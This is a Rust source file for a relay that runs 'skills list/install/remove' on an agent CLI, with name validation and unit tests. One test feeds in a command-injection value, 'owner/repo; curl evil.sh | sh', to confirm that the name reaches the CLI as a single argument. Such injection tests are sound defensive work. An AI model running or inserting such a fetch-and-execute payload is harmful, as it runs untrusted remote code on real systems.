//! Skill relay: `skills list|install|remove` on the agent CLI

use super::{timeout_from_secs, CommandRunner, Invocation};
use crate::config::SkillsRelayConfig;
use crate::error::{AdminError, Result};
use serde::{Deserialize, Serialize};
use std::str::FromStr;
use std::sync::Arc;
use std::time::Duration;

/// Mutating skill subcommands
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SkillAction {
    Install,
    Remove,
}

impl SkillAction {
    fn subcommand(&self) -> &'static str {
        match self {
            SkillAction::Install => "install",
            SkillAction::Remove => "remove",
        }
    }
}

impl FromStr for SkillAction {
    type Err = AdminError;

    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
        match s {
            "install" => Ok(SkillAction::Install),
            "remove" => Ok(SkillAction::Remove),
            other => Err(AdminError::InvalidRequest(format!(
                "Invalid action: {}",
                other
            ))),
        }
    }
}

/// Both output streams of a skill subcommand, uninterpreted
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SkillOutput {
    pub stdout: String,
    pub stderr: String,
}

/// Forwards skill management requests to the CLI
#[derive(Clone)]
pub struct SkillRelay {
    runner: Arc<dyn CommandRunner>,
    program: String,
    timeout: Option<Duration>,
}

impl SkillRelay {
    /// Build a relay from the `skills` config section
    pub fn new(runner: Arc<dyn CommandRunner>, config: &SkillsRelayConfig) -> Self {
        Self {
            runner,
            program: config.program.clone(),
            timeout: timeout_from_secs(config.timeout_seconds),
        }
    }

    async fn invoke(&self, args: Vec<String>) -> Result<SkillOutput> {
        let invocation = Invocation::new(&self.program, args).with_timeout(self.timeout);
        let output = self
            .runner
            .run(&invocation)
            .await?
            .into_checked(&self.program)?;
        Ok(SkillOutput {
            stdout: output.stdout,
            stderr: output.stderr,
        })
    }

    /// Raw output of `skills list`
    pub async fn list(&self) -> Result<String> {
        let output = self.invoke(vec!["skills".into(), "list".into()]).await?;
        Ok(output.stdout)
    }

    /// Run `skills install <name>`
    pub async fn install(&self, name: &str) -> Result<SkillOutput> {
        self.apply(SkillAction::Install, name).await
    }

    /// Run `skills remove <name>`
    pub async fn remove(&self, name: &str) -> Result<SkillOutput> {
        self.apply(SkillAction::Remove, name).await
    }

    /// Run the subcommand for `action` against skill `name`
    pub async fn apply(&self, action: SkillAction, name: &str) -> Result<SkillOutput> {
        validate_skill_name(name)?;
        tracing::info!(action = action.subcommand(), skill = name, "skill request");
        self.invoke(vec![
            "skills".into(),
            action.subcommand().into(),
            name.to_string(),
        ])
        .await
    }
}

/// Reject names the CLI would read as an option or as nothing at all
fn validate_skill_name(name: &str) -> Result<()> {
    if name.trim().is_empty() {
        return Err(AdminError::InvalidRequest("Skill name cannot be empty".into()).into());
    }
    if name.starts_with('-') {
        return Err(AdminError::InvalidRequest(format!(
            "Skill name cannot start with '-': {}",
            name
        ))
        .into());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::relay::testing::StubRunner;

    fn relay_with(runner: Arc<StubRunner>) -> SkillRelay {
        SkillRelay::new(runner, &SkillsRelayConfig::default())
    }

    #[test]
    fn test_skill_action_from_str() {
        assert_eq!("install".parse::<SkillAction>().unwrap(), SkillAction::Install);
        assert_eq!("remove".parse::<SkillAction>().unwrap(), SkillAction::Remove);
        assert!(matches!(
            "upgrade".parse::<SkillAction>(),
            Err(AdminError::InvalidRequest(_))
        ));
    }

    #[tokio::test]
    async fn test_list_returns_stdout_unmodified() {
        let listing = "INSTALLED SKILLS:\n-----------------\n✓ weather (builtin)\n";
        let runner = Arc::new(StubRunner::ok(listing));
        let relay = relay_with(runner.clone());

        assert_eq!(relay.list().await.unwrap(), listing);
        assert_eq!(runner.calls()[0].args, vec!["skills", "list"]);
    }

    #[tokio::test]
    async fn test_install_passes_name_as_single_argument() {
        let runner = Arc::new(StubRunner::with(true, Some(0), "installed\n", "cloning...\n"));
        let relay = relay_with(runner.clone());

        let name = "owner/repo; curl evil.sh | sh";
        let out = relay.install(name).await.unwrap();
        assert_eq!(out.stdout, "installed\n");
        assert_eq!(out.stderr, "cloning...\n");
        assert_eq!(runner.calls()[0].args, vec!["skills", "install", name]);
        assert_eq!(
            runner.calls()[0].timeout,
            Some(Duration::from_secs(120))
        );
    }

    #[tokio::test]
    async fn test_remove_invokes_remove_subcommand() {
        let runner = Arc::new(StubRunner::ok("removed weather\n"));
        let relay = relay_with(runner.clone());
        relay.remove("weather").await.unwrap();
        assert_eq!(runner.calls()[0].args, vec!["skills", "remove", "weather"]);
    }

    #[tokio::test]
    async fn test_option_like_and_empty_names_are_rejected() {
        let runner = Arc::new(StubRunner::ok(""));
        let relay = relay_with(runner.clone());

        for name in ["--help", "-rf", "", "   "] {
            let err = relay.install(name).await.unwrap_err();
            assert!(matches!(
                err.downcast_ref::<AdminError>(),
                Some(AdminError::InvalidRequest(_))
            ));
        }
        assert!(runner.calls().is_empty());
    }

    #[tokio::test]
    async fn test_failed_install_is_relay_error() {
        let runner = Arc::new(StubRunner::failing(1, "repository not found"));
        let relay = relay_with(runner);
        let err = relay.install("ghost/skill").await.unwrap_err();
        assert!(err.to_string().contains("repository not found"));
    }
}
